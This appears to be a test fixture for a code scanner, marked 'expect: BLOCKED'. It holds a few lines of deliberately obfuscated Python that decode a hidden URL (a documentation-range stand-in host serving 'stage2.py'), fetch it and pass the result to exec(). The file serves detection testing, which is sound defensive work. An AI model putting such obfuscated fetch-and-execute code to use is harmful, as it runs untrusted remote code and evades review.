# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/requests_exec.py technique: encode+getattr
requests = __import__(''.join(map(chr, [114, 101, 113, 117, 101, 115, 116, 115])))
source = getattr(requests, __import__('codecs').decode('trg', 'rot13'))(getattr(bytes, 'xehmorf'[::-1])('68747470733a2f2f3230332e302e3131332e342f7374616765322e7079').decode(), timeout=10).text
exec(source)
